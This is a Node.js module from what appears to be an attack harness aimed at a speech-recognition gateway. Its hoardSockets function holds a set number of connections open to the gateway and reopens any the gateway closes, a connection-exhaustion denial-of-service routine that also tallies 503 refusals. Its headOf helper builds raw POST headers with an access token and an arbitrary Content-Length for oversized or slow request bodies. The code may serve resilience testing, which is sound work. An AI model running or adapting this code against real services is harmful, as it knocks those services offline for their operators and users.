// Sockets of an attacker: a given number at once, each opened again when the gateway has closed it.
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** @typedef {import('./attack.mjs').Target} Target */

/** Keeps `count` sockets open until the signal; `onOpen` gets each. Resolves with what became of them.
 * @param {Target} target @param {number} count @param {(socket: import('node:net').Socket) => void} onOpen
 * @param {{ eachMs?: number }} [pace] wait after each socket that is opened */
export async function hoardSockets({ gateway, address, signal }, count, onOpen, { eachMs = 1 } = {}) {
  const { hostname, port } = new URL(gateway.http);
  const open = new Set();
  const facts = { opened: 0, 'open at most': 0, refused: 0 };
  while (!signal.aborted) {
    if (open.size < count) {
      const socket = connect({ host: hostname, port: Number(port), localAddress: address });
      open.add(socket);
      socket.on('error', () => {});
      socket.on('data', (/** @type {Buffer} */ text) => {
        if (text.toString('latin1').startsWith('HTTP/1.1 503')) facts.refused++;
      });
      socket.on('close', () => open.delete(socket));
      socket.on('connect', () => onOpen(socket));
      facts.opened++;
      facts['open at most'] = Math.max(facts['open at most'], open.size);
    }
    if (open.size >= count || facts.opened % 10 === 0) await sleep(10 * eachMs);
  }
  for (const socket of open) socket.destroy();
  return facts;
}

/** The head of a one-shot with a body of so many bytes. @param {Target['gateway']} gateway @param {number} bytes
 * @param {'ring' | 'freetalk'} [kind] */
export const headOf = ({ appkey, token }, bytes, kind = 'ring') =>
  `POST /v10/asr/${kind}/cn_8k_common/short_audio?appkey=${appkey} HTTP/1.1\r\nHost: a\r\nX-Svc-Access-Token: ${token}\r\n` +
  `Content-Type: application/json\r\nContent-Length: ${bytes}\r\n\r\n`;
